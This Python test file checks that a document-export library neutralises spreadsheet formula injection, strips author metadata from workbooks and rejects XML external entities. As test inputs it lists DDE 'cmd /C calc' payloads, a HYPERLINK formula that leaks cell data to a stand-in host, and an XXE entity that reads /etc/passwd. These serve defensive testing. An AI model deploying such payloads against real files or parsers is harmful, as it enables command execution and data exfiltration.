"""What people typed goes out as what they typed: no spreadsheet reckons it, and no file names its maker."""

import re
from datetime import UTC, datetime
from io import BytesIO
from zipfile import ZipFile

import docx
import pytest

from lianheng.instance import asking
from lianheng.kernel.verdict import Refused
from lianheng.organisation.actor import SYSTEM
from lianheng.papers.handing_out import handed_out
from lianheng.papers.official import Paper
from lianheng.papers.reading import read
from lianheng.papers.reporting import Column, Report, write_report
from lianheng.papers.terms import PaperReason
from lianheng.papers.writing import Head, as_bytes, write_sheet
from lianheng.ui.sheet import Sheet, SheetColumn
from tests.factories.documents import EXCEL, packed

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example?"&A1,"x")',
    '=WEBSERVICE("http://elsewhere.example")',
    '=IMPORTXML("http://elsewhere.example")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=1+1\x00",
    "＝1+1",  # noqa: RUF001 - the wide sign, which some programs take for the narrow one
    "http://elsewhere.example/",
    "mailto:a@elsewhere.example",
    "file://elsewhere.example/a",
    "internal:Sheet1!A1",
    "external:a.xlsx",
    "\\\\elsewhere\\a",
    "'=1+1",
    '"=1+1',
    "%0A=1+1",
    "=" * 300,
    "<script>alert(1)</script>",
    "&lt;f&gt;1&lt;/f&gt;",
    "]]><f>1</f>",
    "0012",
    "1e5",
    "123456789012345678",
]
AT = datetime(2026, 10, 8, 9, tzinfo=UTC)


def whole(word: str) -> bytes:
    """A workbook with the word in its header, in a cell and above it."""
    return as_bytes("名单", [Head(word, hint=word), Head("b")], [[word, 1]], above=word)


def listed(word: str) -> bytes:
    """A list as it is exported."""
    out = BytesIO()
    sheet = Sheet(word, (SheetColumn(word), SheetColumn("b")), lambda: iter([(word, 1)]), ((word, word),))
    write_sheet(out, sheet, by=word[:60], at=AT)
    return out.getvalue()


def reported(word: str) -> bytes:
    """A report, without sums of its own."""
    out = BytesIO()
    write_report(out, Report("表", word, (Column(word), Column("b")), ((word, word),)), [[word, 1]])
    return out.getvalue()


def parts(content: bytes) -> dict[str, str]:
    """What lies in the workbook."""
    with ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@pytest.mark.parametrize("word", FORMULAS)
@pytest.mark.parametrize("written", [whole, listed, reported])
def test_g67_no_word_becomes_a_formula_or_a_link(written, word):
    found = parts(written(word))
    sheets = [said for name, said in found.items() if name.startswith("xl/worksheets/")]
    assert len(sheets) >= 1
    assert not [said for said in sheets if re.search(r"<(?:f|hyperlinks?)[ >]", said)]
    assert not [name for name in found if "externalLink" in name or "vba" in name.lower()]


@pytest.mark.parametrize("word", ["=1+1", "0012", "1e5", "http://elsewhere.example/"])
def test_g67_it_is_read_again_as_it_was_typed(word):
    assert word in [row[0] for row in read(whole(word))[0].rows]


@pytest.mark.parametrize("written", [whole, listed, reported])
def test_g67_a_workbook_names_no_author(written):
    said = parts(written("甲"))
    assert re.search(r"<dc:creator>([^<]*)", said["docProps/core.xml"])[1] == ""
    assert not re.search(r"<(?:Company|Manager)>[^<]", said["docProps/app.xml"])


def paper(**said) -> Paper:
    """A paper that is not sent out."""
    return Paper("", "记录", "", "谈话记录", "", (), "", None, **said)


@pytest.mark.parametrize("kept", [{"is_internal": True}, {"is_draft": True}])
def test_m15_what_stays_in_the_house_says_who_took_it_along(kept):
    with asking.begun() as number:
        made = docx.Document(BytesIO(handed_out(paper(**kept), "记录", "docx", by=SYSTEM).content))
    section = made.sections[0]
    for header in (section.header, section.even_page_header):
        said = "".join(each.text for each in header.paragraphs)
        assert re.search(rf"^{SYSTEM.signature} \d{{4}}-\d\d-\d\d \d\d:\d\d 编号 {number}$", said)


def test_what_is_sent_out_follows_the_standard_and_nothing_else():
    made = docx.Document(BytesIO(handed_out(paper(), "通报", "docx", by=SYSTEM).content))
    assert not [each for each in made.sections[0].header.paragraphs if each.text]


@pytest.mark.parametrize("letters", ["utf-8", "utf-16"])
def test_g67_a_workbook_that_brings_its_own_entities_is_not_read(letters):
    entity = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    with pytest.raises(Refused) as refusal:
        read(packed({EXCEL: "<a/>", "xl/sharedStrings.xml": entity.encode(letters)}))
    assert refusal.value.reason == PaperReason.BROKEN
